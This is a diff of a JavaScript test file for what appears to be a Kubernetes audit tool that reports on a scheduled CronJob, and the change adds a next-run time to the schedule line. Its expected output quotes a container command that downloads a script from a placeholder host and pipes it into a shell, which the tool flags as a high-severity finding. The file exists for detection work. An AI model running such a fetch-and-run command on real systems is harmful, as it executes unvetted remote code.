@@ -323,7 +323,7 @@ describe('the story', () => {
       'Who: dev@corp.example (real user, no impersonation), kubectl 1.37.2 as it calls itself, from 198.51.100.7',
       'What: created (allowed, 2 findings): data/CronJob nightly-report',
       'What: container report of image ghcr.io/ops-tools/runner:1 runs: sh -c "curl -s https://files.example/r | sh"',
-      'What: schedule */5 * * * *: every 5 minutes',
+      'What: schedule */5 * * * *: every 5 minutes, next due 2026-11-23 04:40:00 UTC if the cluster keeps UTC',
       'Why: Downloads a script and pipes it into a shell (high): the command of container report downloads and runs: curl -s https://files.example/r | sh',
       'Why: quiet (low): the command of container report downloads and runs: curl -s https://files.example/r | sh',
       'Since: 2026-11-23 04:37:00 UTC, last seen 2026-11-23 04:37:01 UTC; 2 findings',
